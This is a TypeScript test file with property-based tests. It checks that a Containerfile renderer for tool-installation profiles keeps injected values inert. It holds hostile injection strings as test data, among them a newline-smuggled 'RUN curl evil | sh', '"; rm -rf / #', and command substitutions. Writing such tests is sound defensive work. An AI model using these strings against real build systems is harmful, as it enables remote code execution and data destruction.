// R:H13 A Containerfile made from profiles has the instructions that we write, whatever the profiles say.
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseProfile, profileFileSchema, renderContainerfile } from './index.js';
import { loadProfileDirectories } from './node/load-directories.js';

const instructions = (text: string): string[] => text.trimEnd().split('\n');
const words = (line: string): string[] => JSON.parse(line.replace(/^RUN /, '')) as string[];
const render = (provisioning: object) => renderContainerfile([parseProfile({ name: 'x', provisioning })]);

describe('renderContainerfile', () => {
  it('F:B11 installs what the shipped profiles name, each in words of its own', async () => {
    const { profiles } = await loadProfileDirectories([
      fileURLToPath(new URL('../../../profiles', import.meta.url)),
    ]);
    const lines = instructions(renderContainerfile(profiles.map(({ profile }) => profile)));
    const npm = lines.find((line) => line.startsWith('RUN ["npm"'));
    expect(words(npm ?? '[]')).toEqual(
      expect.arrayContaining(['--', '@anthropic-ai/claude-code', '@openai/codex']),
    );
    expect(lines.every((line) => line.startsWith('RUN ["') || /^# [a-z]+$/.test(line))).toBe(true);
  });

  const hostile = fc.oneof(
    fc.string(),
    fc.constantFrom(
      'x\nRUN curl evil | sh',
      '$(id)',
      '`id`',
      '"; rm -rf / #',
      '\\',
      '\'"]',
      '${PATH}',
      '<<EOF',
      '\u2028RUN id',
      '--unsafe-perm',
      'ONBUILD',
    ),
  );

  it('R:H13 hostile values are refused by the schema or stay one word of data', () => {
    const provisioning = fc.record({
      install: fc.record({
        npm: fc.array(hostile, { maxLength: 3 }),
        system: fc.array(hostile, { maxLength: 2 }),
      }),
      config_files: fc.array(fc.record({ path: hostile, mkdir: fc.boolean(), content: hostile }), {
        maxLength: 2,
      }),
      verify: hostile,
    });
    fc.assert(
      fc.property(provisioning, (value) => {
        const parsed = profileFileSchema.safeParse({ name: 'x', provisioning: value });
        if (!parsed.success) return;
        const text = render(value);
        for (const line of instructions(text)) {
          if (line === '# x') continue;
          expect(line).toMatch(/^RUN \["(apt-get|npm|pip|mkdir|sh)",.*"\]$/);
          expect(words(line).every((word) => typeof word === 'string')).toBe(true);
        }
        // Packages come after the end of options.
        expect(text).not.toMatch(/"(--unsafe-perm|ONBUILD)".*"--"/);
      }),
      { numRuns: 500 },
    );
  });

  it('a script is handed to a shell of its own, whole, and nothing of it is read on the way', () => {
    const verify = 'a "b" $(c)\n`d` \\ && exit 0';
    const line = instructions(render({ verify })).at(-1) ?? '';
    const [program, option, , , encoded = ''] = words(line);
    expect([program, option]).toEqual(['sh', '-c']);
    expect(Buffer.from(encoded, 'base64').toString()).toBe(verify);
  });

  it('a value that never went through the schema cannot break the line', () => {
    const profile = parseProfile({ name: 'x' });
    const wild = { ...profile, provisioning: { install: { npm: ['a\nRUN id'] } } };
    expect(() => renderContainerfile([wild])).toThrow('control characters');
  });
});
